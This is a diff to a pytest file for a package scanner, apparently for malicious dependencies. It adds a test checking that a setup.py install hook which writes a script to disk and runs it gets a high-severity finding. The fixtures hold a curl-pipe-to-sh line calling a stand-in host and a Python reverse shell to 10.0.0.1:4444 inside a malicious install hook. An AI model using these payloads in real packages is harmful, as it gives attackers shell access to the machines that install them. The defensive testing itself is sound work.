@@ -16,7 +16,7 @@ import pytest
 from depvet.analysis.pyfacts import extract_facts, resolver
 from depvet.analysis.pysource import parse_tolerant
 from depvet.analysis.staticeval import StaticEvaluator
-from depvet.model import RunContext
+from depvet.model import RunContext, Severity
 from tests.conftest import ScanFiles, rule_ids
 
 PAYLOAD = "import os\nos.system('curl -s https://drop.example.invalid/s | sh')\n"
@@ -181,3 +181,35 @@ def test_builtin_looked_up_through_the_text_of_other_builtins_is_decoded(scan_fi
 def test_a_plain_getattr_on_builtins_with_a_literal_name_is_not_hidden(scan_files: ScanFiles) -> None:
     code = "import builtins\n\ndef kind(name):\n    return getattr(builtins, 'int')\n"
     assert "DV205" not in rule_ids(scan_files({"pkg/__init__.py": "", "pkg/types.py": code}))
+
+
+_DROPPED = (
+    "import socket, os, subprocess\\n"
+    "s = socket.socket()\\ns.connect(('10.0.0.1', 4444))\\n"
+    "os.dup2(s.fileno(), 0)\\nos.dup2(s.fileno(), 1)\\nsubprocess.call(['/bin/sh', '-i'])\\n"
+)
+
+
+def test_a_script_written_to_disk_is_scanned_as_code(scan_files: ScanFiles) -> None:
+    setup = (
+        "import subprocess\nfrom setuptools import setup\nfrom setuptools.command.install import install\n"
+        f'CODE = "{_DROPPED}"\n'
+        "class Run(install):\n    def run(self):\n"
+        "        with open('/tmp/r.py', 'w') as f:\n            f.write(CODE)\n"
+        "        subprocess.Popen(['python3', '/tmp/r.py'])\n"
+        "setup(name='x', cmdclass={'install': Run})\n"
+    )
+    result = scan_files({"setup.py": setup}, artifact="sdist")
+    written = [f for f in result.findings if "written as a script" in f.evidence]
+    assert written
+    assert max(f.severity.rank for f in written) >= Severity.HIGH.rank
+
+
+def test_a_generated_version_file_is_not_a_payload(scan_files: ScanFiles) -> None:
+    setup = (
+        "from setuptools import setup\n"
+        "TEMPLATE = '# generated\\nversion = \"1.0\"\\nrevision = \"abc\"\\nrelease = True\\n'\n"
+        "with open('pkg/_version.py', 'w') as f:\n    f.write(TEMPLATE)\nsetup(name='x')\n"
+    )
+    result = scan_files({"setup.py": setup}, artifact="sdist")
+    assert not [f for f in result.findings if "written as a script" in f.evidence]
